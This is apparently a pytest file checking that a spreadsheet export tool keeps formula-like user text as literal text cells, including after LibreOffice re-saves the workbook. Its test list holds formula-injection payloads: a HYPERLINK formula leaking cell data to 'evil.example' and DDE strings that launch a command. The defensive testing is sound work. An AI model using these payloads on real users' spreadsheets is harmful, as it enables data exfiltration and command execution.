"""Case 1: text that looks like a formula (``=HYPERLINK(…)``, ``=cmd|…``, ``@SUM(…)``, ``+1``,
``-1``, a leading tab): a text cell, shown literally by Excel and LibreOffice, read back
identical. Through ``vigie export``, in every place user text goes, and after LibreOffice
has opened and re-saved the workbook. (Cell-level tests: tests/workbook/test_user_text.py.)"""

from __future__ import annotations

from pathlib import Path

import pytest
from helpers.workbook_probe import cells, export_via_command, libreoffice_resave, session_with_text

FORMULA_LIKE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1",
    "+33 6 12 34 56 78",
    "\t=1+1",
    "=1+1",
    " =2+2",
]


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return export_via_command(session_with_text(FORMULA_LIKE), tmp_path_factory.mktemp("c1"))


PAYLOADS = [t.strip() for t in FORMULA_LIKE if len(t.strip()) > 4]
"""Long enough not to occur by chance in the workbook's own formulas (which hold ``-1``)."""


def _check(path: Path, *, quote_prefix: bool) -> None:
    """Every formula-like text is a text cell with its exact value, in every place it was
    put; no formula of the workbook carries one. ``quote_prefix``: also marked so that Excel
    keeps it literal when the cell is edited (LibreOffice drops the mark when it re-saves,
    keeping the text a text cell)."""
    found: dict[str, int] = {}
    for cell in cells(path):
        where = (cell.parent.title, cell.coordinate, cell.value)
        if cell.data_type == "f":
            assert not any(payload in str(cell.value) for payload in PAYLOADS), where
        if isinstance(cell.value, str) and cell.value.strip() in [t.strip() for t in FORMULA_LIKE]:
            assert cell.data_type == "s", where
            if quote_prefix:
                assert cell.quotePrefix, where
            found[cell.value.strip()] = found.get(cell.value.strip(), 0) + 1
    for text in FORMULA_LIKE:
        assert found.get(text.strip(), 0) >= 4, text  # notes, names, risks, actions


def test_every_formula_like_text_is_a_literal_text_cell(exported: Path) -> None:
    _check(exported, quote_prefix=True)


@pytest.mark.libreoffice
def test_still_text_after_libreoffice_resaves_it(exported: Path, tmp_path: Path) -> None:
    _check(libreoffice_resave(exported, tmp_path), quote_prefix=False)
